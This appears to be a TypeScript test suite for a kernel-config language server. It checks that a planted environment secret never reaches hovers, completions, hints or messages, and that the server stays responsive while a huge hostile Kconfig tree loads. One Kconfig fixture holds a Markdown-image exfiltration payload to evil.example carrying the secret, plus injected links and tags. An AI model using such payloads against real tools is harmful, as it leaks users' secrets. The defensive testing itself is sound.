// Attack suite, the language server and kernel trees (issue 23, F2 and responsiveness): a
// planted secret in the server's environment never reaches a hover, a completion, an inlay hint
// or a message, tree text never forms Markdown links or images, and the server answers a hover
// on another document within 200 ms while a hostile tree loads. Build first: `npm run build`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { startClient, type TestClient } from '../lspClient';
import { files, scratch } from './harness';

const SECRET = 'tok-5f2e9c-planted-secret';

async function treeVerdict(
  client: TestClient,
  uri: string,
  want: RegExp,
  timeoutMs = 20_000,
): Promise<Array<{ code?: unknown; message: unknown }>> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const p = await client.diagnostics(uri, undefined, Math.max(1, deadline - Date.now()));
    if (p.diagnostics.some((d) => want.test(`${String(d.code)} ${String(d.message)}`))) return p.diagnostics;
  }
}

/** The Markdown strings of hovers and completion documentation in a list of answers. */
function markdownOf(x: unknown, out: string[] = []): string[] {
  if (Array.isArray(x)) for (const e of x) markdownOf(e, out);
  else if (x && typeof x === 'object') {
    const o = x as Record<string, unknown>;
    if (o.kind === 'markdown' && typeof o.value === 'string') out.push(o.value);
    else for (const v of Object.values(o)) markdownOf(v, out);
  }
  return out;
}

test('F2: a secret in the environment and Markdown in a tree reach no hover, completion, hint or message', async (t) => {
  const d = scratch(t, 'secret');
  files(d, {
    Kconfig: [
      'mainmenu "t"',
      'config EVIL',
      `\tbool "![x](https://evil.example/p.png?k=$(MY_SECRET_TOKEN))"`,
      '\tdefault y',
      '\thelp',
      '\t  $(MY_SECRET_TOKEN) [click](https://evil.example/h) <img src=x> `code',
      'config EVILSTR',
      '\tstring "s $(MY_SECRET_TOKEN)"',
      '\tdefault "$(MY_SECRET_TOKEN)"',
      'config EVILINFO',
      '\tbool "i"',
      '\tdefault y',
      '\tdepends on "$(MY_SECRET_TOKEN)" = ""',
      '',
    ].join('\n'),
  });
  const before = process.env.MY_SECRET_TOKEN;
  process.env.MY_SECRET_TOKEN = SECRET; // the server inherits the test's environment
  t.after(() => {
    if (before === undefined) delete process.env.MY_SECRET_TOKEN;
    else process.env.MY_SECRET_TOKEN = before;
  });
  const client = await startClient({ settings: { kernelSourcePath: d } });
  t.after(() => client.close());
  const uri = `file://${path.join(d, 'x.config')}`;
  const text = 'CONFIG_EVIL=y\nCONFIG_EVILSTR="other"\nCONFIG_EVILINFO=n\nCONFIG_\nCONFIG_NOT_IN_THIS_TREE=y\n';
  await client.conn.sendNotification('textDocument/didOpen', {
    textDocument: { uri, languageId: 'kernel-config', version: 1, text },
  });
  const diags = await treeVerdict(client, uri, /Kconfig file of this tree/);
  const answers: unknown[] = [diags];
  for (const [line, character] of [
    [0, 8],
    [1, 9],
    [2, 9],
  ]) {
    answers.push(
      await client.conn.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line, character } }),
    );
  }
  answers.push(
    await client.conn.sendRequest('textDocument/completion', {
      textDocument: { uri },
      position: { line: 3, character: 7 },
    }),
  );
  answers.push(
    await client.conn.sendRequest('textDocument/inlayHint', {
      textDocument: { uri },
      range: { start: { line: 0, character: 0 }, end: { line: 4, character: 0 } },
    }),
  );
  // the Kconfig file itself, judged with the whole tree
  const kuri = `file://${path.join(d, 'Kconfig')}`;
  const { readFileSync } = await import('node:fs');
  await client.conn.sendNotification('textDocument/didOpen', {
    textDocument: { uri: kuri, languageId: 'kconfig', version: 1, text: readFileSync(path.join(d, 'Kconfig'), 'utf8') },
  });
  answers.push(await client.diagnostics(kuri, 1));
  answers.push(
    await client.conn.sendRequest('textDocument/hover', {
      textDocument: { uri: kuri },
      position: { line: 1, character: 9 },
    }),
  );
  answers.push(
    await client.conn.sendRequest('textDocument/completion', {
      textDocument: { uri: kuri },
      position: { line: 12, character: 12 },
    }),
  );
  const all = JSON.stringify(answers);
  assert.ok(
    !all.includes(SECRET),
    `the secret appears: ${all.slice(Math.max(0, all.indexOf(SECRET) - 200), all.indexOf(SECRET) + 100)}`,
  );
  // the hovers did answer, with the prompt as written, escaped; no Markdown from the tree
  const md = markdownOf(answers);
  assert.ok(
    md.some((m) => m.includes('MY\\_SECRET\\_TOKEN')),
    'the prompt is shown as written, escaped',
  );
  for (const m of md) {
    const unescaped = m.replace(/\\./g, ''); // what is left once every escaped character is dropped
    for (const bad of ['![', '](', '<img', '[click]'])
      assert.ok(!unescaped.includes(bad), `unescaped "${bad}" in ${m.slice(0, 1500)}`);
  }
});

test('the server answers a hover on another document within 200 ms while a hostile tree loads', async (t) => {
  const d = scratch(t, 'busy');
  const entries: string[] = [];
  for (let i = 0; entries.join('').length < 120 * 1024; i++)
    entries.push(`config SYM_${i}\n\tbool "Symbol ${i}"\n\tdefault y\n\thelp\n\t  Help of ${i}.\n\n`);
  files(d, { 'big.Kconfig': entries.join(''), Kconfig: `mainmenu "x"\n${'source "big.Kconfig"\n'.repeat(20_000)}` });
  const client = await startClient({ settings: { kernelSourcePath: d } });
  t.after(() => client.close());
  const other = 'file:///hostile/busy/menu.lst';
  await client.conn.sendNotification('textDocument/didOpen', {
    textDocument: {
      uri: other,
      languageId: 'menu-lst',
      version: 1,
      text: 'title Xen\n kernel /xen-4.17.gz dom0_mem=2048M console=vga\n module /vmlinuz-6.1 root=/dev/sda1\n',
    },
  });
  await client.diagnostics(other, 1);
  // warm: the first hover reads the Xen knowledge
  for (let i = 0; i < 3; i++)
    await client.conn.sendRequest('textDocument/hover', {
      textDocument: { uri: other },
      position: { line: 1, character: 25 },
    });
  const uri = `file://${path.join(d, 'x.config')}`;
  await client.conn.sendNotification('textDocument/didOpen', {
    textDocument: { uri, languageId: 'kernel-config', version: 1, text: 'CONFIG_SYM_1=y\n' },
  });
  let done = false;
  const verdict = treeVerdict(client, uri, /kconfig\/tree-unavailable .*safety limit/, 60_000).finally(() => {
    done = true;
  });
  const latencies: number[] = [];
  while (!done) {
    const t0 = performance.now();
    const h = await client.conn.sendRequest('textDocument/hover', {
      textDocument: { uri: other },
      position: { line: 1, character: 25 },
    });
    latencies.push(performance.now() - t0);
    assert.ok(h, 'the hover answered');
    await new Promise((r) => setTimeout(r, 20));
  }
  const diags = await verdict;
  assert.ok(latencies.length >= 3, `hovers during the load: ${latencies.length}`);
  const worst = Math.max(...latencies);
  assert.ok(
    worst <= 200,
    `slowest hover during the load: ${Math.round(worst)} ms (${latencies.map(Math.round).join(', ')})`,
  );
  assert.ok(
    diags.some((x) => /more than [\d,]+ entries/.test(String(x.message))),
    JSON.stringify(diags),
  );
  // and after
  const t1 = performance.now();
  await client.conn.sendRequest('textDocument/hover', {
    textDocument: { uri: other },
    position: { line: 1, character: 25 },
  });
  assert.ok(performance.now() - t1 <= 200);
});
